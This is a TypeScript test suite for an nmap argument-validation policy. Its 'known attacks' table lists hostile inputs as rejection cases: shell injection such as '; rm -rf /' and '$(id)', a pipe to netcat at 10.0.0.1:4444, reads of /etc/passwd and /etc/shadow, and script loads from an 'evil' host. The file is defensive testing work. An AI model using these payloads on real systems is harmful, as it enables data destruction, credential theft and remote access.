import { describe, expect, it } from "@effect/vitest"
import { Either, FastCheck as fc } from "effect"
import { type ArgsPolicyOptions, forbiddenFlags, validateArgs } from "../../src/policy/args.js"
import type { FlagSpec } from "../../src/policy/flags.js"
import { tokenize } from "../../src/policy/tokenize.js"
import { nmapFlags } from "../../src/tools/nmap/flags.js"

const nmap = { name: "NmapTool", flags: nmapFlags, intrusive: false }
const safe: ArgsPolicyOptions = { allowIntrusive: false, maxArgsLength: 2048 }
const permissive: ArgsPolicyOptions = { allowIntrusive: true, maxArgsLength: 2048 }

/** Runs a caller string through the full path: tokenize, then the nmap table. */
const check = (input: string, options = safe) => Either.flatMap(tokenize(input), (tokens) => validateArgs(nmap, tokens, options))

const ruleOf = (input: string, options = safe) => {
  const result = check(input, options)
  if (Either.isRight(result)) return `accepted:${result.right.tokens.join(" ")}`
  return result.left._tag === "IntrusiveNotAllowed" ? "intrusive_not_allowed" : result.left.rule
}

describe("argument policy: known attacks", () => {
  const cases: Array<[string, string]> = [
    ["; rm -rf /", "forbidden_character"],
    ["-sV; rm -rf /", "forbidden_character"],
    ["-sV && id", "forbidden_character"],
    ["-sV | nc 10.0.0.1 4444", "forbidden_character"],
    ["$(id)", "forbidden_character"],
    ["-p $(id)", "forbidden_character"],
    ["-sV `id`", "forbidden_character"],
    ["-sV\nid", "forbidden_character"],
    ["-sV\r\n-oN /tmp/x", "forbidden_character"],
    ["-sV > /tmp/x", "forbidden_character"],
    ["-sV 'x'", "forbidden_character"],
    ["-sV \"x\"", "forbidden_character"],
    ["-sV\u0000", "forbidden_character"],
    ["\u2013sV", "forbidden_character"],
    ["\u2014script default", "forbidden_character"],
    ["\uff0dsV", "forbidden_character"],
    ["-s\uff36", "forbidden_character"],
    ["-iL /etc/passwd", "forbidden_flag"],
    ["-iL/etc/passwd", "forbidden_flag"],
    ["-iR 100", "forbidden_flag"],
    ["-oN /tmp/x", "forbidden_flag"],
    ["-oN/tmp/x", "forbidden_flag"],
    ["-oX -", "forbidden_flag"],
    ["-oA /tmp/scan", "forbidden_flag"],
    ["--datadir /tmp", "forbidden_flag"],
    ["--datadir=/tmp", "forbidden_flag"],
    ["--datad /tmp", "forbidden_flag"],
    ["-datadir /tmp", "forbidden_flag"],
    ["--script-args user=root", "forbidden_flag"],
    ["--script-args=user=root", "forbidden_flag"],
    ["--script-args-file /etc/shadow", "forbidden_flag"],
    ["--servicedb /etc/passwd", "forbidden_flag"],
    ["--resume /tmp/x", "forbidden_flag"],
    ["--stylesheet http://evil/x.xsl", "forbidden_flag"],
    ["--excludefile /etc/passwd", "forbidden_flag"],
    ["--exclude 10.0.0.1", "forbidden_flag"],
    ["-S 10.0.0.9", "forbidden_flag"],
    ["-D 10.0.0.7,ME", "forbidden_flag"],
    ["-e eth0", "forbidden_flag"],
    ["--proxies http://1.2.3.4:8080", "forbidden_flag"],
    ["--spoof-mac 0", "forbidden_flag"],
    ["--privileged", "forbidden_flag"],
    ["--interactive", "forbidden_flag"],
    ["-6", "forbidden_flag"],
    ["-sI 10.0.0.8", "forbidden_flag"],
    ["-b ftp.example.com", "forbidden_flag"],
    ["--script=/tmp/x.nse", "forbidden_value"],
    ["--script /tmp/x.nse", "forbidden_value"],
    ["--script x.nse", "forbidden_value"],
    ["--script http-title,/tmp/x", "forbidden_value"],
    ["--script http://evil/x.nse", "forbidden_value"],
    ["--script +http-title", "forbidden_value"],
    ["--script not", "forbidden_value"],
    ["--script all", "script_not_allowed"],
    ["--script intrusive", "script_not_allowed"],
    ["--script dos", "script_not_allowed"],
    ["--script broadcast", "script_not_allowed"],
    ["--script broadcast-dhcp-discover", "script_not_allowed"],
    ["--script http-title,,ssl-cert", "invalid_value"],
    ["--script", "missing_value"],
    ["-p", "missing_value"],
    ["-p -sV", "missing_value"],
    ["--top-ports=", "missing_value"],
    ["-sV 10.0.0.1", "positional_argument"],
    ["8.8.8.8", "positional_argument"],
    ["-sV -- 8.8.8.8", "positional_argument"],
    ["-p 22 8.8.8.8", "positional_argument"],
    ["-sV=1", "unknown_flag"],
    ["--open=yes", "invalid_value"],
    ["-p22", "unknown_flag"],
    ["-sVC", "unknown_flag"],
    ["--help", "unknown_flag"],
    ["-p 0", "invalid_value"],
    ["-p 65536", "invalid_value"],
    ["-p 100-10", "invalid_value"],
    ["-p 022", "invalid_value"],
    ["-p -", "invalid_value"],
    ["-p X:22", "invalid_value"],
    ["--top-ports 0", "invalid_value"],
    ["--top-ports 1e3", "invalid_value"],
    ["--top-ports -5", "invalid_value"],
    ["--version-intensity 10", "invalid_value"],
    ["--min-rate 100000", "invalid_value"],
    ["--host-timeout 1d", "invalid_value"],
    ["--host-timeout 25h", "invalid_value"],
    ["-T 7", "invalid_value"],
    ["-A", "intrusive_not_allowed"],
    ["--script brute", "intrusive_not_allowed"],
    ["--script ssl-heartbleed", "intrusive_not_allowed"],
    [`-p ${Array.from({ length: 700 }, (_, i) => String(i + 1)).join(",")}`, "too_long"]
  ]
  it.each(cases)("%j is rejected with %s", (input, rule) => {
    expect(ruleOf(input)).toBe(rule)
  })

  it("a rejection names the offending token", () => {
    const result = check("-sV -oN /tmp/x")
    expect(Either.isLeft(result) && result.left._tag === "ArgumentRejected" && result.left.token).toBe("-oN")
    const glued = check("-sV -p 22 -oN/tmp/x")
    expect(Either.isLeft(glued) && glued.left._tag === "ArgumentRejected" && glued.left.message).toMatch(/writes a file/)
  })
})

describe("argument policy: accepted calls", () => {
  const cases: Array<[string, string]> = [
    ["", ""],
    ["-sV -p 22,80,443", "-sV -p 22,80,443"],
    ["  -sT\t-Pn   -n ", "-sT -Pn -n"],
    ["--top-ports=100 -T4", "--top-ports 100 -T4"],
    ["-p 1-1024,T:8080,U:53,U:161-162", "-p 1-1024,T:8080,U:53,U:161-162"],
    ["--host-timeout 10m --scan-delay 200ms --max-retries 2", "--host-timeout 10m --scan-delay 200ms --max-retries 2"],
    ["--max-rate 1.5 --min-rate 100", "--max-rate 1.5 --min-rate 100"],
    ["-sC -sV --script default,http-title,ssl-cert", "-sC -sV --script default,http-title,ssl-cert"],
    ["--script=banner", "--script banner"],
    ["--script ssh-hostkey", "--script ssh-hostkey"],
    ["-T aggressive", "-T aggressive"],
    ["--version-intensity 0 --open --reason", "--version-intensity 0 --open --reason"]
  ]
  it.each(cases)("%j is accepted as %j", (input, normalised) => {
    expect(ruleOf(input)).toBe(`accepted:${normalised}`)
  })

  it("intrusive flags need the server setting and the caller's permission", () => {
    expect(ruleOf("-A")).toBe("intrusive_not_allowed")
    const allowed = check("-A --script brute,ssl-heartbleed", permissive)
    expect(Either.isRight(allowed) && allowed.right).toEqual({
      tokens: ["-A", "--script", "brute,ssl-heartbleed"],
      intrusive: true,
      intrusiveReasons: ["-A", "--script brute", "--script ssl-heartbleed"]
    })
    const denied = check("-A", { ...permissive, callerMayIntrude: false })
    expect(Either.isLeft(denied) && denied.left._tag === "IntrusiveNotAllowed" && denied.left.message).toMatch(/scope/)
    const off = check("-A")
    expect(Either.isLeft(off) && off.left._tag === "IntrusiveNotAllowed" && off.left.message).toMatch(/allow_intrusive/)
  })

  it("non-intrusive calls report so", () => {
    const result = check("-sV -sC")
    expect(Either.isRight(result) && result.right.intrusive).toBe(false)
  })

  it("a tool that is intrusive as a whole is gated even without flags", () => {
    const tool = { name: "Brute", flags: [], intrusive: true }
    expect(Either.isLeft(validateArgs(tool, [], safe))).toBe(true)
    expect(validateArgs(tool, [], permissive)).toEqual(Either.right({ tokens: [], intrusive: true, intrusiveReasons: ["Brute"] }))
  })

  it("the forbidden list wins over a tool table that lists a forbidden flag", () => {
    const careless = {
      name: "Careless",
      intrusive: false,
      flags: [{ name: "-iL", value: { _tag: "None" }, description: "" }] satisfies Array<FlagSpec>
    }
    expect(Either.isLeft(validateArgs(careless, ["-iL"], safe))).toBe(true)
    expect(Either.isRight(validateArgs(careless, ["-iL"], { ...safe, forbidden: [] }))).toBe(true)
  })
})

describe("nmap flag table", () => {
  it("lists no forbidden flag and no flag twice", () => {
    const names = nmapFlags.flatMap((flag) => [flag.name, ...(flag.aliases ?? [])])
    expect(new Set(names).size).toBe(names.length)
    const forbidden = new Set(forbiddenFlags.map((entry) => entry.flag))
    expect(names.filter((name) => forbidden.has(name))).toEqual([])
  })

  it("every flag name is itself a safe token", () => {
    for (const flag of nmapFlags) expect(Either.isRight(tokenize(flag.name))).toBe(true)
  })

  it("marks raw-socket scans privileged and -A intrusive", () => {
    const byName = new Map(nmapFlags.map((flag) => [flag.name, flag]))
    for (const name of ["-sS", "-sU", "-O", "-A"]) expect(byName.get(name)?.privileged).toBe(true)
    expect(byName.get("-A")?.intrusive).toBe(true)
    expect(byName.get("-sC")?.intrusive).toBeUndefined()
  })

  it("forbidden flags all carry a reason", () => {
    for (const entry of forbiddenFlags) expect(entry.reason.length).toBeGreaterThan(10)
  })
})

/** A test-only tool with one flag of each value type. */
const fakeFlags: Array<FlagSpec> = [
  { name: "-a", value: { _tag: "None" }, description: "switch a" },
  { name: "--bee", aliases: ["-B"], value: { _tag: "None" }, description: "switch b" },
  { name: "--count", value: { _tag: "Int", min: 1, max: 10 }, description: "count" },
  { name: "--offset", value: { _tag: "Int", min: -5, max: 5 }, description: "offset" },
  { name: "--ratio", value: { _tag: "Number", min: 0, max: 1 }, description: "ratio" },
  { name: "--mode", value: { _tag: "Enum", values: ["fast", "slow", "loud"] }, intrusiveValues: ["loud"], description: "mode" },
  { name: "--wait", value: { _tag: "Duration", minMs: 100, maxMs: 60_000 }, description: "wait" },
  { name: "--ports", value: { _tag: "Ports", maxRanges: 3 }, description: "ports" },
  { name: "--tag", value: { _tag: "Pattern", pattern: /[a-z]{1,8}/, description: "1-8 lower-case letters" }, description: "tag" },
  { name: "--smash", value: { _tag: "None" }, intrusive: true, description: "intrusive switch" }
]
const fake = { name: "FakeTool", flags: fakeFlags, intrusive: false }
const fakeOk = (tokens: ReadonlyArray<string>, options = safe) => {
  const result = validateArgs(fake, tokens, options)
  return Either.isRight(result)
    ? result.right.tokens
    : Either.isLeft(result) && result.left._tag === "ArgumentRejected"
    ? result.left.rule
    : "intrusive"
}

describe("argument policy: a fake tool spec", () => {
  it("item 4: a value starting with '-' is a number only where the range is negative, and then only a negative one", () => {
    expect(fakeOk(["--count", "-0"])).toBe("invalid_value")
    expect(fakeOk(["--ratio", "-0"])).toBe("invalid_value")
    expect(fakeOk(["--ratio", "-0.0"])).toBe("invalid_value")
    expect(fakeOk(["--offset", "-0"])).toBe("invalid_value")
    expect(fakeOk(["--offset", "-3"])).toEqual(["--offset", "-3"])
    expect(fakeOk(["--offset=-3"])).toEqual(["--offset", "-3"])
    expect(fakeOk(["--offset", "-a"])).toBe("missing_value")
    expect(fakeOk(["--offset", "-datadir"])).toBe("invalid_value")
  })

  it("validates each value type", () => {
    expect(fakeOk(["-a", "-B", "--count", "10", "--offset", "-5", "--ratio", "0.25"])).toEqual([
      "-a",
      "--bee",
      "--count",
      "10",
      "--offset",
      "-5",
      "--ratio",
      "0.25"
    ])
    expect(fakeOk(["--count", "11"])).toBe("invalid_value")
    expect(fakeOk(["--count", "-1"])).toBe("invalid_value")
    expect(fakeOk(["--offset", "-6"])).toBe("invalid_value")
    expect(fakeOk(["--ratio", "1.5"])).toBe("invalid_value")
    expect(fakeOk(["--mode", "fast"])).toEqual(["--mode", "fast"])
    expect(fakeOk(["--mode", "FAST"])).toBe("invalid_value")
    expect(fakeOk(["--mode", "loud"])).toBe("intrusive")
    expect(fakeOk(["--mode", "loud"], permissive)).toEqual(["--mode", "loud"])
    expect(fakeOk(["--wait", "0.5s", "--wait", "100ms", "--wait", "1m", "--wait", "60"])).toEqual([
      "--wait",
      "0.5s",
      "--wait",
      "100ms",
      "--wait",
      "1m",
      "--wait",
      "60"
    ])
    expect(fakeOk(["--wait", "50ms"])).toBe("invalid_value")
    expect(fakeOk(["--wait", "2m"])).toBe("invalid_value")
    expect(fakeOk(["--ports", "1,2,3"])).toEqual(["--ports", "1,2,3"])
    expect(fakeOk(["--ports", "1,2,3,4"])).toBe("invalid_value")
    expect(fakeOk(["--tag=abc"])).toEqual(["--tag", "abc"])
    expect(fakeOk(["--tag", "abcdefghi"])).toBe("invalid_value")
    expect(fakeOk(["--tag", "ab1"])).toBe("invalid_value")
    expect(fakeOk(["--smash"])).toBe("intrusive")
    expect(fakeOk(["-c"])).toBe("unknown_flag")
    expect(fakeOk(["-a", "x"])).toBe("positional_argument")
  })
})

const digits = (min: number, max: number) => fc.integer({ min, max }).map(String)
const group: fc.Arbitrary<Array<string>> = fc.oneof(
  fc.constantFrom(["-a"], ["-B"], ["--bee"]),
  digits(1, 10).chain((n) => fc.constantFrom(["--count", n], [`--count=${n}`])),
  digits(-5, 5).map((n) => ["--offset", n]),
  fc.constantFrom("fast", "slow").map((m) => ["--mode", m]),
  fc.tuple(fc.integer({ min: 1, max: 60 }), fc.constantFrom("s", "", "000ms")).map(([n, unit]) => ["--wait", `${n}${unit}`]),
  fc.array(fc.tuple(fc.constantFrom("", "T:", "U:"), fc.integer({ min: 1, max: 65535 })), { minLength: 1, maxLength: 3 }).map((ports) => [
    "--ports",
    ports.map(([proto, port]) => `${proto}${port}`).join(",")
  ]),
  fc.stringMatching(/^[a-z]{1,8}$/).map((tag) => ["--tag", tag])
)
const validList = fc.array(group, { maxLength: 8 })

/** Candidate intruders: garbage, near-misses, forbidden flags and real flags or values in the wrong place. */
const intruder = fc.oneof(
  fc.string({ unit: "binary", minLength: 1, maxLength: 12 }),
  fc.stringMatching(/^-{1,2}[A-Za-z][A-Za-z-]{0,10}$/),
  fc.constantFrom(
    ...forbiddenFlags.map((entry) => entry.flag),
    "--count",
    "--tag",
    "fast",
    "10",
    "8.8.8.8",
    ";",
    "$(id)",
    "-",
    "--",
    "--smash",
    "-a"
  )
)

/** Tokens that can stand on their own at a group boundary. */
const standalone = new Set(["-a", "-B", "--bee"])

describe("argument policy: properties", () => {
  it.prop("a valid token list re-validates to itself (idempotent normalisation)", [validList], ([groups]) => {
    const first = validateArgs(fake, groups.flat(), safe)
    expect(Either.isRight(first)).toBe(true)
    if (Either.isRight(first)) {
      const second = validateArgs(fake, first.right.tokens, safe)
      expect(Either.isRight(second) && second.right.tokens).toEqual(first.right.tokens)
    }
  })

  it.prop(
    "an intruder in a valid list is rejected unless it is a standalone flag",
    [validList, intruder, fc.nat()],
    ([groups, extra, at]) => {
      const position = groups.length === 0 ? 0 : at % (groups.length + 1)
      const tokens = [...groups.slice(0, position).flat(), extra, ...groups.slice(position).flat()]
      const result = validateArgs(fake, tokens, safe)
      if (Either.isRight(result)) expect(standalone.has(extra)).toBe(true)
    }
  )

  it.prop("any token with a character outside the safe alphabet is rejected as forbidden_character", [
    validList,
    fc.string({ unit: "binary", minLength: 1, maxLength: 8 })
  ], ([groups, s]) => {
    fc.pre(/[^A-Za-z0-9.:/=+,\-@%_]/.test(s))
    const result = validateArgs(fake, [...groups.flat(), s], safe)
    expect(Either.isLeft(result) && result.left._tag === "ArgumentRejected" && result.left.rule).toBe("forbidden_character")
  })

  it.prop("tokenize never yields a token outside the safe alphabet", [fc.string({ unit: "binary", maxLength: 40 })], ([s]) => {
    const result = tokenize(s)
    if (Either.isRight(result)) { for (const token of result.right) expect(token).toMatch(/^[A-Za-z0-9.:/=+,\-@%_]+$/) }
  })
})
